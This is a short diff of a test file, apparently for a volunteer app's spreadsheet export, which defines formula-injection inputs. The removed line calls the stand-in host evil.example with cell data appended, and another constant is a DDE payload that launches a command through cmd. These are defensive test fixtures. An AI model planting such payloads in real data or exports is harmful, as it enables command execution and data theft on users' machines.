@@ -10,7 +10,7 @@ from app.extensions import db as _db
 from app.volunteers.models import Interest, Trade
 from tests.volunteer_helpers import GRID_A1, GRID_OTHER_STREET, WUSHAN, YUANCUN, register
 
-EVIL_TRADE = '=HYPERLINK("http://evil.example/?"&A2,"点我")'
+EVIL_TRADE = '=HYPERLINK("http://x.cn","点我")'  # names hold at most 32 characters
 EVIL_INTEREST = "@SUM(1+1)*cmd|' /C calc'!A0"
 XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 
